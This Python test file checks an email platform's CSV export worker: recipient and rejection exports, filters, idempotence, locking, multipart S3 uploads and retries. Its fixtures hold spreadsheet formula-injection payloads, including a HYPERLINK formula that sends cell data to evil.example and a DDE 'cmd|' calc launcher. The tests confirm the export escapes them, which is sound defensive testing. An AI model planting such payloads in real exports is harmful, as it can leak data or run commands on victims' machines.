"""Exports: the file contains what the ledger contains, and nothing in it runs as a formula."""

from __future__ import annotations

import csv
import io
from uuid import UUID, uuid4

import boto3
import pytest

from tests import lambdas
from tests.database.functions.sending.conftest import Sending

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


def request(sending: Sending, plan: UUID, kind: str = "recipients", statuses: tuple[str, ...] = ()) -> UUID:
    export = uuid4()
    sending.run(
        "insert into send_exports (send_export_id, send_plan_id, created_by_user_id, kind, statuses)"
        " values (%s, %s, %s, %s, %s)",
        export,
        plan,
        sending.platform.users["brand"],
        kind,
        list(statuses),
    )
    return export


def work(sending: Sending, export: UUID) -> list[str]:
    from functions.sending import export as function

    sending.platform.login("ddp_worker")
    message = {"type": "ExportSends", "send_export_id": str(export)}
    event = lambdas.with_message(lambdas.sample("sending/export"), message)
    answer = function.handler(event, lambdas.Context())
    return [failure["itemIdentifier"] for failure in answer["batchItemFailures"]]


def state(sending: Sending, export: UUID) -> tuple[object, ...]:
    columns = "state, object_key, row_count, ended_at is not null, failure_reason"
    return sending.query(f"select {columns} from send_exports where send_export_id = %s", export)[0]


def content(export: UUID) -> list[dict[str, str]]:
    body = boto3.client("s3").get_object(Bucket=lambdas.BUCKET, Key=f"exports/{export}.csv")["Body"].read()
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@pytest.fixture
def planned(sending: Sending) -> UUID:
    plan = sending.listed(
        {"email": "+ann@example.com", "name": FORMULA},
        {"email": "bob@example.com", "name": "@SUM(A1)"},
        {"email": "zoe@example.com", "name": 'Zoë, "Z"'},
        "nobody",
        "-1+cmd|' /C calc'!A0",
    )
    sending.work(plan)
    return plan


def test_recipients(sending: Sending, planned: UUID) -> None:
    sending.run(
        "update email_sends set sent_at = '2026-03-01 12:00+01', status = 'sent'"
        " where recipient_email = 'bob@example.com'"
    )
    export = request(sending, planned)
    assert work(sending, export) == []
    rows = content(export)
    assert [(row["email"], row["name"], row["status"], row["sent_at"]) for row in rows] == [
        ("'+ann@example.com", f"'{FORMULA}", "pending", ""),
        ("bob@example.com", "'@SUM(A1)", "sent", "2026-03-01T11:00:00Z"),
        ("zoe@example.com", 'Zoë, "Z"', "pending", ""),
    ]
    assert state(sending, export) == ("ready", f"exports/{export}.csv", 3, True, None)


def test_recipients_of_some_states(sending: Sending, planned: UUID) -> None:
    sending.run("update email_sends set status = 'failed' where recipient_email = 'bob@example.com'")
    export = request(sending, planned, statuses=("failed", "bounced"))
    work(sending, export)
    assert [row["email"] for row in content(export)] == ["bob@example.com"]


def test_rejections(sending: Sending, planned: UUID) -> None:
    export = request(sending, planned, "rejections")
    work(sending, export)
    assert [(row["line"], row["code"], row["value"]) for row in content(export)] == [
        ("4", "no-at", "nobody"),
        ("5", "no-at", "'-1+cmd|' /C calc'!A0"),
    ]
    assert all(row["reason"] for row in content(export))


def test_a_message_that_comes_again_changes_nothing(sending: Sending, planned: UUID) -> None:
    export = request(sending, planned)
    work(sending, export)
    before = state(sending, export), content(export)
    sending.run("update email_sends set status = 'failed'")
    assert work(sending, export) == []
    assert (state(sending, export), content(export)) == before
    assert work(sending, uuid4()) == []


def test_while_another_worker_writes_it(sending: Sending, planned: UUID) -> None:
    export = request(sending, planned)
    with sending.platform.database.as_worker() as other:
        other.execute("select 1 from send_exports where send_export_id = %s for update", [export])
        assert work(sending, export) == []
    assert state(sending, export)[0] == "pending"


def test_many_rows_in_parts(sending: Sending, monkeypatch: pytest.MonkeyPatch) -> None:
    """Many fetches from the cursor, and several parts for S3 (of at least 5 MiB)."""
    from ddp.providers import s3_streams

    monkeypatch.setattr(s3_streams, "PART", 5 << 20)
    plan = sending.listed("ann@example.com")
    sending.work(plan)
    sending.run(
        "insert into email_sends (email_campaign_id, created_by_user_id, recipient_email, recipient_name)"
        " select email_campaign_id, created_by_user_id, 'user' || n || '@example.com', repeat('n', 200)"
        " from send_plans, generate_series(1, 30000) n where send_plan_id = %s",
        plan,
    )
    export = request(sending, plan)
    assert work(sending, export) == []
    assert state(sending, export)[:3] == ("ready", f"exports/{export}.csv", 30_001)
    emails = [row["email"] for row in content(export)]
    assert len(emails) == len(set(emails)) == 30_001
    uploads = boto3.client("s3").list_multipart_uploads(Bucket=lambdas.BUCKET, Prefix="exports/")
    assert "Uploads" not in uploads


def test_what_fails_comes_again_and_is_given_up_in_the_end(
    sending: Sending, planned: UUID, monkeypatch: pytest.MonkeyPatch
) -> None:
    from functions.sending import export as function

    def refuse(*_: object) -> int:
        raise ConnectionError("no S3")

    export = request(sending, planned)
    with monkeypatch.context() as patch:
        patch.setattr(function, "_write", refuse)
        for _ in range(4):
            assert work(sending, export) != []
            assert state(sending, export)[0] == "pending"
        assert work(sending, export) == []
    assert state(sending, export)[0] == "failed"
    assert "again" in str(state(sending, export)[4])
